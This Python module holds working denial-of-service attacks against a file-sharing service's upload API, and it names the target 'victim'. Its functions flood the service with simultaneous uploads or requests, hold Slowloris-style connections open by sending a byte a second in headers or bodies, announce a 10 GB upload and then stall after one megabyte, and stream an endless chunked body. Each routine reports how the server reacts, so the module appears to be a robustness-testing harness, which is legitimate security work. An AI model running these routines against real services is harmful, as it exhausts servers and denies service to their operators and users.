"""Connections without end: slow heads and bodies, promises that are not kept, and too many at once."""

import json
import socket
import threading
import time

from device import API, entry, gpx
from offering import offered, told


def upload_path(agreement):
    """The path to which the only file of an agreement is sent."""
    return f"{API}upload?sessionId={agreement['sessionId']}&fileId=0&token={agreement['files']['0']}"


def beginning(device, path):
    """The beginning of a request, to which fields may be added."""
    return f"POST {path} HTTP/1.1\r\nHost: {device.victim}:{device.victim_port}\r\n"


def crowd(device, options, report):
    """Sends `count` files at once over as many connections; with `--how requests`, asks as often at once instead."""
    content = gpx() + b" " * (1 << 20)
    files = {str(number): entry(number, f"{number}.gpx", content) for number in range(options.count)}
    if options.how == "requests":
        others = [device.another(f"phone {number}") for number in range(options.count)]
        work = [lambda other=other: other.prepare({"0": files["0"]}) for other in others]
    else:
        agreement = offered(device, files, report, "crowd")
        work = [lambda file=file: device.upload(agreement, file, content) for file in files]
    answers = []
    threads = [threading.Thread(target=lambda task=task: answers.append(task().status)) for task in work]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    report(step="crowd", statuses=sorted(answers, key=str))


def slow(device, options, report):
    """Opens `count` connections that say a byte a second, and tells when they end.

    silent: nothing, not even TLS. head: in the head of a request. body: in the body of a list.
    """
    body = json.dumps({"info": device.info(), "files": {}}).encode() + b" " * 100_000
    connections = []
    for _ in range(options.count):
        if options.how == "silent":
            connections.append(socket.create_connection((device.victim, device.victim_port)))
            continue
        connection = device.connect()
        head = beginning(device, API + "prepare-upload")
        if options.how == "body":
            head += f"Content-Length: {len(body)}\r\n\r\n"
        connection.sendall(head.encode())
        connections.append(connection)
    report(step="slow", open=len(connections))
    began, ended = time.monotonic(), 0
    while connections and time.monotonic() - began < options.seconds:
        for connection in list(connections):
            try:
                if options.how != "silent":
                    connection.sendall(b"{" if options.how == "body" else b"X")
                connection.settimeout(0.001)
                closed = connection.recv(1000) == b""
            except (socket.timeout, TimeoutError):
                closed = False
            except OSError:
                closed = True
            if closed:
                connections.remove(connection)
                ended += 1
        time.sleep(1)
    report(step="slow", ended=ended, still=len(connections), seconds=time.monotonic() - began)


def promise(device, options, report):
    """Announces 10 GB, is let in, sends a megabyte and no more; tells when the other side gives up."""
    agreement = offered(device, {"0": entry(0, "large.mbtiles", b"", size=10 << 30, sha256=None)}, report, "promise")
    if not agreement:
        return
    with device.connect(timeout=None) as connection:
        head = beginning(device, upload_path(agreement)) + f"Content-Length: {10 << 30}\r\n\r\n"
        connection.sendall(head.encode() + bytes(1 << 20))
        began = time.monotonic()
        report(step="promise", sent=1 << 20)
        connection.settimeout(options.seconds)
        try:
            answer = connection.recv(1000)
            report(step="promise", answer=answer.decode(errors="replace")[:40], seconds=time.monotonic() - began)
        except (socket.timeout, TimeoutError):
            report(step="promise", answer=None, seconds=time.monotonic() - began)
        except OSError:
            report(step="promise", answer="", seconds=time.monotonic() - began)


def chunked(device, options, report):
    """Sends a file in pieces without end; tells after how many bytes the other side has had enough."""
    content = gpx()
    agreement = offered(device, {"0": entry(0, "a.gpx", content, sha256=None)}, report, "chunked")
    if not agreement:
        return
    sent, answer, piece = 0, b"", b"10000\r\n" + b" " * 65536 + b"\r\n"
    with device.connect() as connection:
        connection.sendall((beginning(device, upload_path(agreement)) + "Transfer-Encoding: chunked\r\n\r\n").encode())
        connection.settimeout(0.001)
        while sent < 4 << 30:
            try:
                answer = connection.recv(1000)
                break
            except (socket.timeout, TimeoutError):
                pass
            except OSError:
                break
            try:
                connection.settimeout(60)
                connection.sendall(piece)
                connection.settimeout(0.001)
            except OSError:
                break
            sent += 65536
    report(step="chunked", sent=sent, answer=answer.decode(errors="replace")[:40])
    told(report, "chunked", "after it", device.ask("info", method="GET"))
